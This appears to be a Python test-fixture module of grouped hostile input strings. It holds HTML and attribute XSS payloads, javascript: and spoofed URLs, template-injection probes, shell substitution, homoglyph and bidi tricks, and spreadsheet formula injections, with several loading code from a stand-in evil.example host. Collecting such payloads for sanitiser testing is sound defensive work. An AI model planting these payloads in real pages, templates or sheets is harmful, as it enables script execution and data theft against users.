"""Hostile texts by kind. Each is written where it could do harm: markup, attributes, addresses, scripts, templates, sheets."""

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</ScRiPt>", "<script/src=//evil.example/x.js></script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=`javascript:alert(1)`>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg/onload=alert&lpar;1&rpar;>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<form action=//evil.example><input name=x>", "<button formaction=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<![FOR]> hello", "<![ x", "<?xml version='1.0'?><x/>", "<x onclick=alert(1)>x</x>", "<isindex action=javascript:alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>", "<div data-hx-on:load=alert(1)>", "<b>bold</b><br><i>x</i>", "<plaintext>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</main></body></html>", "<script type=module>import('//evil.example')</script>", "<dialog open>x</dialog>", "<portal src=//evil.example>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover=alert(1) x="', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" autofocus onfocus=alert(1) "',
    "` onerror=alert(1) `", '"/><svg onload=alert(1)>', "x\" style=\"position:fixed;inset:0", "x' hx-get='//evil.example' hx-trigger='load", '" href="javascript:alert(1)',
    "&quot; onload=alert(1)", "&#34; onload=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\\" onload=alert(1)", "%22%20onload=alert(1)",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example", "\\\\evil.example\\x",
    "http:evil.example", "https:/evil.example", "blob:https://evil.example/x", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "ftp://evil.example", "mailto:x@evil.example",
    "https://good.example@evil.example", "https://evil.example/%0d%0aSet-Cookie:x=1",
)  # fmt: skip
SCRIPTS = (
    "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "${alert(1)}", "`${alert(1)}`", "</script>", "<!--<script>", "\u2028alert(1)", "\u2029alert(1)", "__proto__", "constructor",
    '{"__proto__":{"x":1}}', "]]>", "alert`1`", "%00<script>", "\\u003cscript\\u003ealert(1)",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ request.user }}", "{% debug %}", "{% load static %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n", "%(x)s", "{0.__class__}", "{}", "$HOME `id` $(id)",
)  # fmt: skip
LOOKS = (
    "abc\u202etxt.exe", "\u202dKim\u202c", "\u2066x\u2069", "a\u200bb", "K\u0456m J\u043eng Un", "z\u0335\u0321" * 40, "\ufeffx", "\x1b[31mred\x1b[0m", "line\r\nSet-Cookie: x=1", "a\u0000b".replace("\u0000", "\u2400"),
)  # fmt: skip
SHEETS = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\";=1+1", "=IMPORTXML(\"http://evil.example\")", "|calc", "%0A=1+1",
)  # fmt: skip
GROUPS = {
    "markup": MARKUP, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "scripts": SCRIPTS, "templates": TEMPLATES, "looks": LOOKS, "sheets": SHEETS,
}  # fmt: skip
